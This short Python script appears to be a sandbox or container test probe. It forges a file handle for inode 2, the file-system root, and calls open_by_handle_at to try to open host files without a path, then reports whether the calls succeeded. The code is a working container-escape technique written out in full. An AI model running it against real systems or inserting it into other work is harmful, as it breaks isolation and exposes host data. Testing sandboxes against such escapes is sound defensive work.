"""Opens files of the host by the number of their inode instead of a path."""
import ctypes

from attempt import call, report

handle = ctypes.create_string_buffer(140)
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
mount = ctypes.c_int()
named = call("name_to_handle_at", -100, b"/usr", handle, mount, 0)
# The root of most file systems is inode 2.
ctypes.memmove(handle, b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
report(named=named, opened=call("open_by_handle_at", 0, handle, 0))
